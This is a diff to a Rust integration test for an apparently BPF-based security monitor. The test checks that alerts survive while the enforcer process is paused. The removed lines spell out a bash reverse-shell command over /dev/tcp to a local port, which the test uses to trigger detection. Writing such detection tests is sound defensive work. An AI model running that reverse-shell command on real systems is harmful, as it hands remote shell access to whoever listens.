@@ -8,7 +8,7 @@ use std::{
 use nix::sys::signal::Signal;
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{self, Peer},
     sentinel::{
         Outcome, Sentinel, alerts, bpf_programs_of, is_running, loaded_bpf_programs, program, send,
         within,
@@ -233,9 +233,7 @@ fn alerts_that_wait_for_the_enforcer_are_not_lost_with_the_loader() {
     let sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
     send(sentinel.enforcer(), Signal::SIGSTOP);
     let peer = Peer::listen("127.0.0.1");
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut command = bed.command("bash");
-    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut child = peer::reverse_shell(&bed, &peer);
     let mut shell = peer.shell();
     shell.pid();
     // The shell is faster than the news of it; the alert then waits for 400 ms.
